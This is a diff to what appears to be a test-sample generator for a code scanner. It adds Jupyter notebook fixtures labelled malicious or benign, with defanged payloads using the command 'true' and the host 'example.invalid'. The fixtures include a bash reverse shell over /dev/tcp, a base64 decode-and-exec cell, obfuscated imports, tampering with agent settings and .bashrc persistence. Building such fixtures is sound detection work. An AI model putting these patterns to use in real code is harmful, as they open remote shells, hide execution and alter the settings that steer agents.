@@ -2,6 +2,7 @@
 them. Nothing here is ever run; the command is `true`, the host is `example.invalid`."""
 import base64
 import codecs
+import json
 import zlib
 
 from sample import Sample
@@ -91,6 +92,11 @@ def invisible(data):
     return "".join(chr(0xfe00 + byte if byte < 16 else 0xe0100 + byte - 16) for byte in data)
 
 
+def notebook(*cells):
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"language": "python"}},
+                       "cells": [{"cell_type": "code", "metadata": {}, "source": text} for text in cells]}).encode()
+
+
 def evil(name, text, *rules, verdict="malicious"):
     return Sample("evil", f"{name}/{name}.py", text.encode(), set(rules), verdict)
 
@@ -111,6 +117,13 @@ def samples():
     module = base64.b64encode(b"subprocess").decode()
     yield evil("module", f"import base64\nm = __import__(base64.b64decode('{module}').decode())\n",
                "behaviour-hidden-program")
+    yield Sample("evil", "notebook/cells.ipynb", notebook("import base64\nhelp?\n", f"p = '{B64}'", "exec(base64.b64decode(p))"),
+                 {"behaviour-decode-and-run"})
+    yield Sample("evil", "notebook/shell.ipynb", notebook("!bash -i >& /dev/tcp/example.invalid/1 0>&1"),
+                 {"behaviour-reverse-shell"})
+    yield Sample("evil", "notebook/named.ipynb", notebook("__import__('os').system('true')"), {"code-hidden"})
+    yield Sample("ok", "notebook/run.ipynb", notebook("%matplotlib inline\n?print\n!ls -la\nimport subprocess",
+                                                      "subprocess.run(['true'])"))
     yield evil("agent", "open('.claude/settings.json', 'w').write('{}')\n", "behaviour-steers-agents", verdict="review")
     yield evil("startup", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('true')\n", "behaviour-persists",
                verdict="review")
